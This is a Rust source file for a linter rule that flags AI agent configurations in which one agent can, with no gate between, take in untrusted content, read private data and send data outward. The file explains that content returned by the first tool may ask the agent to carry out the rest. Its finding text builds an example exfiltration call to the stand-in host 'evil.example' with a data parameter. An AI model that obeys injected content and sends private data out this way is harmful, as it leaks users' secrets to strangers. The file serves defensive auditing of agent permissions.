use crate::{
    diagnostic::{Class, Code, Level},
    lint::{
        Check, Confidence, File, Findings, Persona, Rule,
        advice::Advice,
        capability::{Traits, free_url_param, narrowed, recipient_param},
        together::{Held, Together},
    },
    syntax::literal::write_name,
    text::quoted_list,
};

pub(super) static RULE: Rule = Rule {
    code: Code {
        name: "lethal-trifecta",
        class: Class::Lint,
        summary: "one agent can read private data, take in what strangers wrote and send outward, with nothing between",
    },
    level: Level::Warning,
    persona: Persona::Default,
    confidence: Confidence::Low,
    fix: None,
    page: include_str!("lethal_trifecta.md"),
    check: Check::File(check),
};

const LEGS: [Traits; 3] = [Traits::UNTRUSTED, Traits::PRIVATE, Traits::OUTWARD];

fn check(file: &File<'_>, findings: &mut Findings) {
    for together in file.together() {
        let [untrusted, private, outward] =
            LEGS.map(|leg| together.tools(|policy, id| policy.traits(id).has(leg) && policy.is_ungated(id)));
        if untrusted.is_empty() || private.is_empty() || outward.is_empty() {
            continue;
        }
        say(&together, [&untrusted, &private, &outward], findings);
    }
}

fn say(together: &Together<'_, '_>, legs: [&[Held<'_, '_>]; 3], findings: &mut Findings) {
    let [untrusted, private, outward] = legs;
    let Some(chain) = chain(untrusted, private, outward) else { return };
    let [take_in, read, send] = chain;
    let apart = chain.iter().any(|held| held.server() != read.server());
    let level = if apart { Level::Warning } else { Level::Info };
    let names = |leg: &[Held<'_, '_>], first: Held<'_, '_>| {
        let mut names = vec![first.name()];
        for held in leg {
            if !names.contains(&held.name()) {
                names.push(held.name());
            }
        }
        quoted_list(&names, 2)
    };
    let message = format!(
        "{} can read private data ({}), take in what strangers wrote ({}) and send outward ({}), and nothing stands between",
        together.holder(),
        names(private, read),
        names(untrusted, take_in),
        names(outward, send),
    );
    let place =
        |held: Held<'_, '_>| held.policy.grant(held.id).map_or(held.policy.fallback_span(), |rule| rule.statement);
    let span = together.grant.map_or(place(send), |grant| grant.identity.span);
    let mut finding = findings.finding(level, span, message);
    for (held, does) in
        [(take_in, "takes in what strangers wrote"), (read, "reads private data"), (send, "sends outward")]
    {
        if place(held) != span && !finding.labels.iter().any(|label| label.span == place(held)) {
            finding = finding.label(place(held), format!("`{}` {does}", held.name()));
        }
    }
    let mut calls = vec![shown(take_in), shown(read), sent(send)];
    calls.dedup();
    finding.proof =
        Some(format!("{}: each is allowed, and what the first returns may ask for the rest", calls.join(", then ")));
    let gate = send.policy.advise(Advice::Gate(&[send.id]), || gate(send));
    finding.help = Some(format!("put a gate on one of the three: {gate}"));
    findings.add(finding);
}

/// One tool for each leg: of two servers if there are such, and one that does only this where there is one.
fn chain<'f, 'a>(
    untrusted: &[Held<'f, 'a>],
    private: &[Held<'f, 'a>],
    outward: &[Held<'f, 'a>],
) -> Option<[Held<'f, 'a>; 3]> {
    let &read = private.first()?;
    let other = |leg: &[Held<'f, 'a>]| leg.iter().find(|held| held.server() != read.server()).copied();
    let (&take_in, &send) = (untrusted.first()?, outward.first()?);
    let apart = |leg: &[Held<'f, 'a>], held: Held<'f, 'a>| other(leg).unwrap_or(held);
    let take_in = apart(untrusted, take_in);
    // where one tool does both, another shows better what happens
    let read = private.iter().find(|held| held.server() == read.server() && held.name() != take_in.name()).copied();
    Some([take_in, read.or(private.first().copied())?, apart(outward, send)])
}

/// A call of the last leg that carries something to a stranger, as far as its arguments can say so.
fn sent(held: Held<'_, '_>) -> String {
    let tool = held.policy.entry(held.id);
    let url = || tool.and_then(|tool| Some((free_url_param(tool)?, "https://evil.example/?data=…")));
    let to = || tool.and_then(|tool| Some((recipient_param(tool)?, "stranger@example.com")));
    match url().or_else(to) {
        Some((param, value)) => held.policy.open_call_with(held.id, param, value).unwrap_or_else(|| shown(held)),
        None => shown(held),
    }
}

fn shown(held: Held<'_, '_>) -> String {
    held.policy.open_call(held.id).unwrap_or_else(|| format!("`{}`", held.name()))
}

/// What to write against the last leg.
fn gate(held: Held<'_, '_>) -> String {
    let name = write_name(held.name());
    let tool = held.policy.entry(held.id);
    let url = tool.and_then(free_url_param).and_then(|url| narrowed(url, "host in [\"docs.example.com\"]"));
    let to = || tool.and_then(recipient_param).and_then(|to| narrowed(to, "in [\"…\"]"));
    match url.or_else(to) {
        Some(require) => format!("`ask {name}`, or narrow it with `on {name} {{ {require} }}`"),
        None => format!("`ask {name}` lets a person look at what is sent"),
    }
}
